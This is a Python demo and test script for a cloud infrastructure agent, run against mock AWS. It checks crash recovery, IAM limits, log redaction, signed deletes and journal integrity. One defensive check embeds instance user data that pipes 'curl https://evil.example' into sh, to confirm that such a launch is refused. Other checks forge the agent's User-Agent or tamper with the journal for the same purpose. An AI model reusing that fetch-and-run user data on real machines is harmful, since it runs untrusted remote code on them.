"""The main job, from an empty account to an empty account, with two kills on the way (make demo).

Everything runs on loopback: moto behind a fault proxy, a metadata service, a vendor plane over HTTPS with a demo CA, and
the real binary as an unprivileged user in a folder outside the clone. Every fact is read from moto, from the vendor plane
or from a file, never from the agent's word. DEMO_BREAK=n breaks the cause of the n-th check, in the peers or in the
configuration; the demo must then end with 1. KEEP=1 leaves everything running and prints how to explore it.
"""

import base64
import collections
import contextlib
import datetime
import json
import os
import pathlib
import subprocess
import sys
import tempfile
import threading
import time

from botocore.exceptions import ClientError

from tests.demo import guide
from tests.demo.checks import Enough, Failed, Report
from tests.peers import process
from tests.peers.stage import AGENT_USER, INSTALLATION, Stage, generated_iam, may_be_root, sudo

REPO = pathlib.Path(__file__).resolve().parents[2]
WAREHOUSE = "wh-1"
NODES = {"fe": 2, "be": 1}
AGAIN = "batch {} came again though it was answered"  # as the vendor plane says it
SECRET = "AKIAIOSFODNN7EXAMPLE"


class Demo:
    def __init__(self, binary):
        self.broken = int(os.environ["DEMO_BREAK"]) if os.environ.get("DEMO_BREAK") else None
        self.report = Report(self.broken)
        self.say, self.check = self.report.say, self.report.check
        self.patience_s = 60 if self.broken is None else 12
        self.dir = pathlib.Path(tempfile.mkdtemp(prefix="reeve-demo-"))
        self.stage = Stage(self.dir, binary, **self.options(binary))
        self.lines_written = 0
        self.writing = threading.Event()
        self.ids = {}
        self.rules_now, self.expired = [], []

    def breaks(self, number):
        return self.broken == number

    def options(self, binary):
        """What is wrong on purpose from the start."""
        options = {}
        if self.breaks(1):
            options["account"] = "999999999999"
        if self.breaks(2):
            policy = generated_iam(binary, "agent")
            policy["Statement"].append({"Effect": "Allow", "Action": "ec2:RunInstances", "Resource": "*"})
            options["agent_policy"] = policy
        if self.breaks(3):
            other = self.dir / "peers/other-keys"
            command = [sys.executable, "-m", "tests.vendor", "keys", "new", other]
            subprocess.run(command, cwd=REPO, check=True, capture_output=True)
            options["trust"] = other
        return options

    # ---- helpers ----

    def wait(self, condition, what, timeout_s=None):
        self.report.waiting = what
        return process.wait_for(condition, timeout_s or self.patience_s, what)

    def ours(self, alive=True):
        """Instances in moto with our tags."""
        tags = [("resource-created-by", "velodb"), ("reeve:installation", INSTALLATION)]
        filters = [{"Name": f"tag:{k}", "Values": [v]} for k, v in tags]
        found = self.stage.reader("ec2").describe_instances(Filters=filters)["Reservations"]
        instances = [i for r in found for i in r["Instances"]]
        return [i for i in instances if not alive or i["State"]["Name"] in ("pending", "running")]

    def mutating(self):
        """Calls that would change something, made by the agent, whatever the answer."""
        return [c for c in self.stage.calls(mutating=True) if c["user_agent"].startswith("reeve/")]

    def admin(self, service, through_proxy=False):
        """The account's owner, for what is broken on purpose."""
        self.stage.moto.authorize(on=False)
        return self.stage.moto.client(service, url=self.stage.proxy_url if through_proxy else None)

    def command(self, verb, *args):
        keys = self.stage.keys_dir
        return self.stage.vendor(verb, *args, "-q", "--command-key", keys / "command.key", "--by", "demo")

    def write_spec(self):
        aws = self.stage.aws
        size = 101 if self.breaks(9) else 100
        clusters = "".join(
            f"  - name: {name}\n    nodes: {nodes}\n    instance_type: r6i.xlarge\n    image_id: {aws['image_id']}\n"
            f"    subnet_id: {subnet}\n    security_groups: [node]\n"
            f"    volumes: [{{device: /dev/sdf, size_gib: {size}, type: gp3}}]\n"
            for (name, nodes), subnet in zip(NODES.items(), aws["subnet_ids"], strict=True)
        )
        path = self.dir / "spec.yaml"
        path.write_text(
            f"warehouse: {WAREHOUSE}\ngeneration: 1\nvpc_id: {aws['vpc_id']}\n"
            "security_groups:\n  - name: node\n    description: nodes of the warehouse\n    rules:\n"
            "      - {protocol: tcp, from_port: 0, to_port: 65535, self: true, description: among nodes}\n"
            "      - {protocol: tcp, from_port: 8000, to_port: 10000, cidr: 10.0.0.0/16, description: clients}\n"
            f"clusters:\n{clusters}"
            "target_groups:\n  - {name: sql, protocol: TCP, port: 9030, clusters: [fe, be]}\n"
            "load_balancers:\n  - name: main\n    internal: true\n"
            f"    subnet_ids: [{', '.join(aws['subnet_ids'])}]\n"
            "    listeners: [{port: 9030, protocol: TCP, target_group: sql}]\n"
            "tags: [{key: sdb-cluster-id, value: c-demo}]\n"
        )
        return path

    def write_log(self):
        """An application that logs, all through the demo; each 100th line holds what must not leave."""
        path = self.dir / "app/app.log"
        with open(path, "a", buffering=1) as log:
            while not self.writing.is_set():
                n = self.lines_written
                more = f" key {SECRET}" if n % 100 == 50 else ""
                log.write(f"I20261122 line {n:06d} query took {n % 97} ms{more}\n")
                self.lines_written += 1
                time.sleep(0.01)

    # ---- the acts ----

    def set_the_stage(self):
        self.say(f"the stage is {self.dir}, the agent runs as {AGENT_USER}")
        self.stage.start(lambda text: self.say(f"  {text}"))
        if self.breaks(15) or self.breaks(16):
            gone = "metrics" if self.breaks(15) else "logs"
            kept = [line for line in self.stage.default_policy().splitlines() if not line.startswith(f"  {gone}:")]
            self.stage.write_policy("\n".join(kept) + "\n")
        if self.breaks(18):
            self.stage.write_policy(self.stage.default_policy(delete="off"))
        self.say("  moto knows no resource ARNs of EC2 and ELB and no Conditions: the generated IAM documents are")
        self.say('  installed with those Resources as "*" and without Conditions; which actions are allowed stays true')
        self.spec = self.write_spec()
        self.writer = threading.Thread(target=self.write_log, daemon=True)
        self.writer.start()
        self.stage.agent_start()

    def believed(self):
        def login():
            return [e for e in self.stage.vendor_lines("events") if e["event"] == "login"]

        try:
            self.wait(login, "the agent's login")
        except AssertionError:
            why = [r["reason"] for r in self.stage.vendor_lines("refusals")][:1]
            raise Failed(f"no login; the vendor says: {why}") from None
        entry = json.loads((self.stage.vendor_dir / f"registry/{INSTALLATION}.json").read_text())
        if entry["role_id"] != self.stage.aws["role_id"]:
            raise Failed(f"the vendor wrote down role id {entry['role_id']}, moto says {self.stage.aws['role_id']}")
        return f"STS told the vendor: account {entry['account']}, role id {entry['role_id']}"

    def instance_keys_cannot_launch(self):
        ec2 = self.stage.moto.client("ec2", self.stage.aws["keys"][0], url=self.stage.proxy_url)
        try:
            ec2.run_instances(ImageId=self.stage.aws["image_id"], InstanceType="t3.micro", MinCount=1, MaxCount=1)
        except ClientError as e:
            return f"RunInstances with the instance role's own keys: {e.response['Error']['Code']}"
        raise Failed("the instance role's own keys launched an instance")

    def plan_is_shown(self):
        self.ids["plan"] = self.command("apply", self.spec, "--mode", "plan")
        result = self.stage.wait_result(self.ids["plan"], self.patience_s)
        text = result["plan_text"]
        for line in text.splitlines():
            self.say(f"    | {line}")
        launches = [line for line in text.splitlines() if "ec2:RunInstances" in line]
        if result["state"] != "SUCCEEDED" or len(launches) != len(NODES):
            raise Failed(f"{result['state']}, {len(launches)} launches in the plan: {result['error']}")
        if self.mutating():
            raise Failed(f"a plan only, but {[c['action'] for c in self.mutating()]} was called")
        return f"plan {result['plan_hash'][:16]}..., {result['steps_total']} steps, no call that changes anything"

    def killed_in_a_launch(self):
        held = self.stage.proxy_dir / "held"
        action = "RunNothing" if self.breaks(4) else "RunInstances"
        self.stage.rules({"id": "hold", "match": {"service": "ec2", "action": action}, "times": 1, "do": "hold"})
        self.ids["apply"] = self.command("apply", self.spec)
        self.wait(held.exists, "a RunInstances that moto has carried out, its answer held back")
        self.stage.agent_kill()
        launched = len(self.ours())
        records = self.stage.journal()
        done = {(r["plan"], r["step"]) for r in records if r["type"] == "step.outcome"}
        intents = [r for r in records if r["type"] == "step.intent" and r["action"] == "ec2:RunInstances"]
        open_intents = [r for r in intents if (r["plan"], r["step"]) not in done]
        if launched == 0 or not open_intents:
            raise Failed(f"{launched} instances in moto, {len(open_intents)} launches open in the journal")
        return f"killed -9: moto has {launched} new instance(s), the journal an intent without an outcome"

    def restart_with_new_keys(self):
        """Another delay makes room for the second kill: between a launch's outcome and what follows."""
        (self.stage.proxy_dir / "release").touch()
        time.sleep(0.3)
        (self.stage.proxy_dir / "release").unlink()
        register = {"id": "slow", "match": {"action": "RegisterTargets"}, "times": 1, "do": "delay", "seconds": 5}
        describe = {"id": "looks", "match": {"service": "elasticloadbalancing", "action": "DescribeTargetHealth"}}
        describe |= {"times": 50, "do": "delay", "seconds": 1}
        self.rules_now = [register] if self.breaks(6) else [describe]
        if self.breaks(7):
            wrong = {"status": 400, "code": "ValidationError", "message": "broken on purpose"}
            self.rules_now.append({"match": {"action": "RegisterTargets"}, "do": "error", **wrong})
        self.stage.rules(*self.rules_now)
        self.stage.agent_start()

    def between_two_steps(self):
        """All nodes are registered, nothing is open, and the operation is not over: it waits for their health."""
        records = [r for r in self.stage.journal() if r.get("op") == self.ids["apply"]]
        steps = [r for r in records if r["type"].startswith("step.")]
        opened = {(r["plan"], r["step"]) for r in steps if r["type"] == "step.intent"}
        ended = {(r["plan"], r["step"]) for r in steps if r["type"] == "step.outcome"}
        registered = {s for s in ended if s[1] == "register-sql"}
        over = any(r["type"] == "command.result" for r in records)
        return steps and not over and len(registered) == len(NODES) and opened <= ended

    def killed_between_steps(self):
        if self.breaks(6):
            self.wait(lambda: not self.between_two_steps() and len(self.ours()) == 3, "an open step")
            self.wait(lambda: any(r.get("action", "").endswith("RegisterTargets") for r in self.stage.journal()), "one")
        else:
            self.wait(self.between_two_steps, "an outcome with nothing open behind it")
        self.stage.agent_kill()
        if not self.between_two_steps():
            raise Failed("the kill fell into an open step")
        return f"killed -9 with {len(self.stage.journal())} records, the last of them closed"

    def swap_keys(self):
        """The metadata service has new keys; from now on AWS answers the old ones, which the agent holds, as expired."""
        if not self.breaks(13):
            self.expired = [self.stage.swap_keys(1)]
            self.stage.rules(*self.rules_now, expired_keys=self.expired)

    def apply_completes(self):
        result = self.stage.wait_result(self.ids["apply"], self.patience_s)
        if result["state"] != "SUCCEEDED":
            raise Failed(f"{result['state']}: {result['error']}")
        return f"{result['state']}, {result['steps_done']} of {result['steps_total']} steps, {self.stage.agent_starts} starts"

    def no_double_launch(self):
        if self.breaks(8):
            tags = [
                {"Key": "resource-created-by", "Value": "velodb"},
                {"Key": "reeve:installation", "Value": INSTALLATION},
            ]
            specs = [{"ResourceType": "instance", "Tags": tags}]
            run = {"ImageId": self.stage.aws["image_id"], "MinCount": 1, "MaxCount": 1, "TagSpecifications": specs}
            self.admin("ec2").run_instances(**run)
            self.stage.moto.authorize()
        ever = self.ours(alive=False)
        carried_out = [c for c in self.mutating() if c["action"] == "RunInstances" and c["upstream_status"] == 200]
        if len(ever) != sum(NODES.values()) or len(carried_out) != len(NODES):
            raise Failed(f"{len(ever)} instances ever, {len(carried_out)} RunInstances carried out")
        return f"{len(ever)} instances ever, {len(carried_out)} RunInstances carried out, one a cluster"

    def nodes_are_as_asked(self):
        ec2, seen = self.stage.reader("ec2"), []
        for node in self.ours():
            tags = {t["Key"]: t["Value"] for t in node["Tags"]}
            ids = [m["Ebs"]["VolumeId"] for m in node["BlockDeviceMappings"] if m["DeviceName"] == "/dev/sdf"]
            volumes = ec2.describe_volumes(VolumeIds=ids)["Volumes"] if ids else []
            seen += [
                (tags["reeve:cluster"], tags["reeve:command"], v["VolumeType"], v["Size"], v["Encrypted"])
                for v in volumes
            ]
            if tags.get("sdb-cluster-id") != "c-demo" or tags.get("reeve:warehouse") != WAREHOUSE:
                raise Failed(f"{node['InstanceId']} has the tags {tags}")
        wanted = sorted((c, self.ids["apply"], "gp3", 100, True) for c, n in NODES.items() for _ in range(n))
        if sorted(seen) != wanted:
            raise Failed(f"saw {sorted(seen)}")
        return f"{len(seen)} nodes, each with an encrypted gp3 volume of 100 GiB and our tags"

    def rules_are_as_asked(self):
        filters = [{"Name": "tag:reeve:warehouse", "Values": [WAREHOUSE]}]
        groups = self.stage.reader("ec2").describe_security_groups(Filters=filters)["SecurityGroups"]
        if self.breaks(10):
            rule = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
            self.admin("ec2").authorize_security_group_ingress(GroupId=groups[0]["GroupId"], IpPermissions=[rule])
            self.stage.moto.authorize()
            groups = self.stage.reader("ec2").describe_security_groups(Filters=filters)["SecurityGroups"]
        seen = set()
        for p in groups[0]["IpPermissions"]:
            ports = (p["IpProtocol"], p.get("FromPort"), p.get("ToPort"))
            seen |= {(*ports, r["CidrIp"]) for r in p["IpRanges"]}
            seen |= {(*ports, "self") for g in p["UserIdGroupPairs"] if g["GroupId"] == groups[0]["GroupId"]}
        if len(groups) != 1 or seen != {("tcp", 0, 65535, "self"), ("tcp", 8000, 10000, "10.0.0.0/16")}:
            raise Failed(f"{len(groups)} groups, rules {sorted(seen)}")
        self.ways_out_are_narrow(groups[0])
        return (
            f"{groups[0]['GroupId']}: {len(seen)} rules in, none beyond the spec; out to itself, the VPC and S3 alone"
        )

    def ways_out_are_narrow(self, group):
        """The spec says nothing of egress; AWS's own default, everything to everywhere, is gone."""
        out = {
            (p["IpProtocol"], p.get("FromPort"), target)
            for p in group["IpPermissionsEgress"]
            for target in [r["CidrIp"] for r in p["IpRanges"]]
            + [r["CidrIpv6"] for r in p.get("Ipv6Ranges", [])]
            + ["self" for g in p["UserIdGroupPairs"] if g["GroupId"] == group["GroupId"]]
            + ["s3" for _ in p["PrefixListIds"]]
        }
        ec2 = self.stage.reader("ec2")
        blocks = ec2.describe_vpcs(VpcIds=[group["VpcId"]])["Vpcs"][0]["CidrBlockAssociationSet"]
        wanted = {("-1", None, "self"), ("tcp", 443, "s3")} | {("tcp", 443, b["CidrBlock"]) for b in blocks}
        if out != wanted:
            raise Failed(f"ways out: {sorted(map(str, out))}")

    def targets_are_healthy(self):
        elb = self.stage.reader("elbv2")
        lbs, groups = elb.describe_load_balancers()["LoadBalancers"], elb.describe_target_groups()["TargetGroups"]
        if len(lbs) != 1 or len(groups) != 1:
            raise Failed(f"{len(lbs)} load balancers, {len(groups)} target groups")
        arn = groups[0]["TargetGroupArn"]
        if self.breaks(11):
            self.admin("elbv2").deregister_targets(TargetGroupArn=arn, Targets=[{"Id": self.ours()[0]["InstanceId"]}])
            self.stage.moto.authorize()
        ports = [x["Port"] for x in elb.describe_listeners(LoadBalancerArn=lbs[0]["LoadBalancerArn"])["Listeners"]]
        health = elb.describe_target_health(TargetGroupArn=arn)["TargetHealthDescriptions"]
        registered = {h["Target"]["Id"]: h["TargetHealth"]["State"] for h in health}
        wanted = {i["InstanceId"]: "healthy" for i in self.ours()}
        if lbs[0]["Type"] != "network" or ports != [9030] or registered != wanted:
            raise Failed(f"type {lbs[0]['Type']}, listeners {ports}, targets {registered}")
        return f"a network load balancer, listener 9030, {len(registered)} targets healthy"

    def written_before_made(self):
        if self.breaks(12):
            client = self.admin("ec2", through_proxy=True)
            client.meta.events.register("before-send", pose_as_agent)
            client.create_security_group(GroupName="x", Description="x", VpcId=self.stage.aws["vpc_id"])
            self.stage.moto.authorize()
        intents = [r for r in self.stage.journal() if r["type"] == "step.intent"]
        carried_out = [c for c in self.mutating() if c["upstream_status"] == 200]
        late, made = [], collections.Counter()
        for call in carried_out:
            made[call["action"]] += 1
            before = [r for r in intents if r["action"].endswith(":" + call["action"]) and r["time"] <= call_time(call)]
            if len(before) < made[call["action"]]:
                late.append(call["action"])
        if late or not carried_out:
            raise Failed(f"{len(carried_out)} changes, no record before {late}")
        return f"{len(carried_out)} calls changed something, a record of its own before each"

    def keys_were_renewed(self):
        old, new = (self.stage.aws["keys"][n]["AccessKeyId"] for n in (0, 1))
        refused = [
            c for c in self.stage.calls(access_key=old) if c["fault"] == "expired_keys" or c["status"] in (400, 403)
        ]
        went_on = [c for c in self.stage.calls(access_key=new) if c["status"] == 200]
        codes = sorted({(c["service"], c["status"]) for c in refused if c["user_agent"].startswith("reeve/")})
        if not codes or not went_on:
            raise Failed(f"old keys refused {len(codes)} times, new keys used {len(went_on)} times")
        return f"old keys answered {codes}, {len(went_on)} calls with the new ones"

    def calls_name_the_command(self):
        if self.breaks(14):
            client = self.admin("ec2", through_proxy=True)
            client.meta.events.register("before-send", pose_as_agent)
            client.create_tags(Resources=[self.ours()[0]["InstanceId"]], Tags=[{"Key": "x", "Value": "y"}])
            self.stage.moto.authorize()
        unnamed = [c["action"] for c in self.mutating() if f"cmd/{self.ids['apply']}" not in c["user_agent"]]
        instance_keys = {k["AccessKeyId"] for k in self.stage.aws["keys"]}
        own = [c["action"] for c in self.mutating() if c["access_key"] in instance_keys]
        if unnamed or own:
            raise Failed(f"without the command id: {unnamed}; with the instance role's keys: {own}")
        return f"User-Agent of all {len(self.mutating())} ends in cmd/{self.ids['apply'][:8]}..., all with the operate role's keys"

    def metrics_arrive(self):
        wanted = {
            "system.cpu.time",
            "system.memory.usage",
            "system.disk.io",
            "system.filesystem.usage",
            "system.network.io",
        }
        wanted |= {"system.cpu.load_average.1m"}

        def names():
            found = {m["name"] for m in self.stage.vendor_lines("metrics")}
            return found if wanted <= found else None

        found = self.wait(names, "host metrics at the vendor plane", 15)
        return f"{len(found)} metrics by their OpenTelemetry names, {len(self.stage.vendor_lines('metrics'))} points"

    def logs_arrive(self):
        self.writing.set()
        self.writer.join()

        def numbers():
            found = {line["body"].split()[2] for line in self.stage.vendor_lines("logs")}
            return found if len(found) >= self.lines_written else None

        with contextlib.suppress(AssertionError):
            self.wait(numbers, "the application's last line", 20)
        bodies = [line["body"] for line in self.stage.vendor_lines("logs")]
        missing = self.lines_written - len({b.split()[2] for b in bodies})
        leaked = sum(SECRET in b for b in bodies)
        hidden = sum("[REDACTED:aws-key]" in b for b in bodies)
        if missing or leaked or not hidden:
            raise Failed(
                f"{missing} of {self.lines_written} lines missing, {leaked} with the secret, {hidden} redacted"
            )
        return f"{self.lines_written} lines, none missing through two kills; {hidden} keys redacted before they left"

    def one_signature_is_refused(self):
        before = len(self.mutating())
        second = ["--second-key", self.stage.keys_dir / "release.key"] if self.breaks(17) else []
        self.ids["one"] = self.command("delete", WAREHOUSE, "--confirm", WAREHOUSE, *second)
        result = self.stage.wait_result(self.ids["one"], self.patience_s)
        made = len(self.mutating()) - before
        if result["state"] != "DENIED" or made:
            raise Failed(f"{result['state']}, {made} calls that change something")
        return f"DENIED, no call that changes anything: {result['error']['message']}"

    def two_signatures_delete(self):
        second = ["--second-key", self.stage.keys_dir / "release.key"]
        self.ids["two"] = self.command("delete", WAREHOUSE, "--confirm", WAREHOUSE, *second)
        result = self.stage.wait_result(self.ids["two"], self.patience_s)
        elb, filters = self.stage.reader("elbv2"), [{"Name": "tag:reeve:warehouse", "Values": [WAREHOUSE]}]
        left = {
            "instances": len(self.ours()),
            "security groups": len(
                self.stage.reader("ec2").describe_security_groups(Filters=filters)["SecurityGroups"]
            ),
            "load balancers": len(elb.describe_load_balancers()["LoadBalancers"]),
            "target groups": len(elb.describe_target_groups()["TargetGroups"]),
        }
        if result["state"] != "SUCCEEDED" or any(left.values()):
            raise Failed(f"{result['state']} {result['error']}; left: {left}")
        return f"SUCCEEDED, left in moto: {left}"

    def vendor_is_content(self):
        if self.breaks(19):
            self.stage.vendor_kill()
            subprocess.run(["rm", "-f", self.stage.vendor_dir / "results.jsonl"], check=True)
            self.stage.vendor_start()
        results = [r["id"] for r in self.stage.vendor_lines("results")]
        violations, refusals = self.stage.vendor_lines("violations"), self.stage.vendor_lines("refusals")
        repeats = [v for v in violations if v["reason"] in {AGAIN.format(i) for i in self.stage.cut_off}]
        violations = [v for v in violations if v not in repeats or repeats.count(v) > 1]
        if sorted(results) != sorted(self.ids.values()) or violations or refusals:
            raise Failed(f"results {len(results)} of {len(self.ids)}, violations {violations}, refusals {refusals}")
        more = f"; {len(repeats)} batch(es) whose answer a kill cut off came again" if repeats else ""
        return f"{len(results)} results, each stored once; nothing refused, no rule of the protocol broken{more}"

    def foreign_user_data_is_refused(self):
        """One stolen command key must not run a line of its own on the customer's machines."""
        if self.breaks(20):
            policy = self.stage.default_policy().replace("bounds:\n", "bounds:\n  user_data_sha256: [any]\n")
            self.stage.write_policy(policy)
        before = len(self.mutating())
        script = base64.b64encode(b"#!/bin/sh\ncurl https://evil.example | sh\n").decode()
        spec = self.spec.read_text().replace("    security_groups:", f"    user_data: {script}\n    security_groups:")
        foreign = self.dir / "foreign.yaml"
        foreign.write_text(spec)
        self.ids["foreign"] = self.command("apply", foreign)
        result = self.stage.wait_result(self.ids["foreign"], self.patience_s)
        made = len(self.mutating()) - before
        if result["state"] != "DENIED" or made or "user_data_sha256" not in result["error"]["message"]:
            raise Failed(f"{result['state']}, {made} calls that change something")
        return f"DENIED, no call that changes anything: {result['error']['message']}"

    def journal_verifies(self):
        status = self.stage.agent_stop()
        folder = self.dir / "state/journal"
        if self.breaks(21):
            flip = f'sed -i \'3s/"seq":3/"seq":3 /\' {folder}/0000000000000001.jsonl'
            subprocess.run(sudo("sh", "-c", flip), check=True)
        script = REPO / "tests/demo/verify_journal.sh"
        run = subprocess.run(sudo("bash", script, folder), capture_output=True, check=False, text=True)
        own = subprocess.run(
            sudo(str(self.stage.binary), "journal", "verify", folder), capture_output=True, check=False, text=True
        )
        if run.returncode != 0 or own.returncode != 0 or status != 0:
            raise Failed(f"{run.stderr.strip()} / {own.stderr.strip()} / exit status {status}")
        return f"jq and sha256sum: {run.stdout.strip()[:60]}...; reeve journal verify agrees; SIGTERM ended it with 0"

    # ---- all of it ----

    def run(self, before):
        self.set_the_stage()
        self.check("The vendor believes who the agent is, from STS alone", self.believed)
        self.check("The keys on the machine can change nothing by themselves", self.instance_keys_cannot_launch)
        self.check("The plan is shown before anything is done", self.plan_is_shown)
        self.check("SIGKILL while the answer of a RunInstances is held back", self.killed_in_a_launch)
        self.check("The agent comes back and logs in again", self.comes_back)
        self.check("SIGKILL between two steps", self.killed_between_steps)
        self.stage.rules(*[r for r in self.rules_now if r["do"] == "error"], expired_keys=self.expired)
        self.stage.agent_start()
        self.check("The apply completes", self.apply_completes)
        self.check("No node was launched twice", self.no_double_launch)
        self.check("The nodes are as the spec says", self.nodes_are_as_asked)
        self.check("The security group is as the spec says", self.rules_are_as_asked)
        self.check("The nodes are registered and healthy", self.targets_are_healthy)
        self.check("Every change was written down before it was made", self.written_before_made)
        self.check("Swapped keys are noticed, renewed and used", self.keys_were_renewed)
        self.check("Every change names its command and uses the operate role", self.calls_name_the_command)
        self.check("Host metrics arrive as OTLP", self.metrics_arrive)
        self.check("The application's log arrives whole, and redacted", self.logs_arrive)
        self.check("A delete with one signature is refused", self.one_signature_is_refused)
        self.check("A delete with two signatures removes everything", self.two_signatures_delete)
        self.check("The vendor has each result once and nothing to complain of", self.vendor_is_content)
        self.check(
            "A launch with user data that the policy does not name is refused", self.foreign_user_data_is_refused
        )
        if os.environ.get("KEEP"):
            self.keep()
        self.check("The journal verifies with jq and sha256sum", self.journal_verifies)
        self.close()
        self.check("Nothing is left running", lambda: nothing_left(before, self.breaks(22)))

    def comes_back(self):
        self.restart_with_new_keys()
        if self.breaks(5):
            self.stage.vendor_kill()
        logins = self.wait(
            lambda: [e for e in self.stage.vendor_lines("events") if e["event"] == "login"][1:], "a second login"
        )
        self.swap_keys()
        return f"{len(logins)} new login, journal of {len(self.stage.journal())} records read back"

    def keep(self):
        self.report.over.set()
        print(guide.text(self.stage, self.spec, WAREHOUSE))
        try:
            guide.stay(self.stage)
        except guide.AgentEnded as ended:
            print(ended, flush=True)

    def close(self):
        self.writing.set()
        self.stage.close()
        self.stage.remove()


def pose_as_agent(request, **_):
    """A call that claims to be the agent's."""
    request.headers["User-Agent"] = "reeve/0"


def call_time(call):
    """As the journal writes times, to compare as text; a call's line is written when it ends, never before it began."""
    return datetime.datetime.fromtimestamp(call["time"], datetime.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def processes():
    """Processes of this session, by id: what a demo leaves behind stays in it."""
    run = subprocess.run(["ps", "-eo", "pid=,sid=,args="], capture_output=True, text=True, check=True)
    rows = [line.split(None, 2) for line in run.stdout.splitlines()]
    session = str(os.getsid(0))
    return {pid: args for pid, sid, args in rows if sid == session and not args.startswith("ps -eo")}


def nothing_left(before, is_broken):
    if is_broken:
        subprocess.Popen(["sleep", "5"])
    more = {pid: args for pid, args in processes().items() if pid not in before}
    if more:
        raise Failed(f"still running: {more}")
    return f"{len(before)} processes of this session at the start, the same at the end"


def main():
    if not may_be_root():
        print("demo: needs root, or sudo without a password: the agent runs as another user (sudo -n true fails)")
        return 2
    before = processes()
    demo = Demo(pathlib.Path(os.environ.get("REEVE_PROGRAM") or REPO / "build/reeve"))
    try:
        demo.run(before)
    except Enough:
        demo.close()
    except BaseException:
        demo.close()
        raise
    return demo.report.end()


if __name__ == "__main__":
    sys.exit(main())
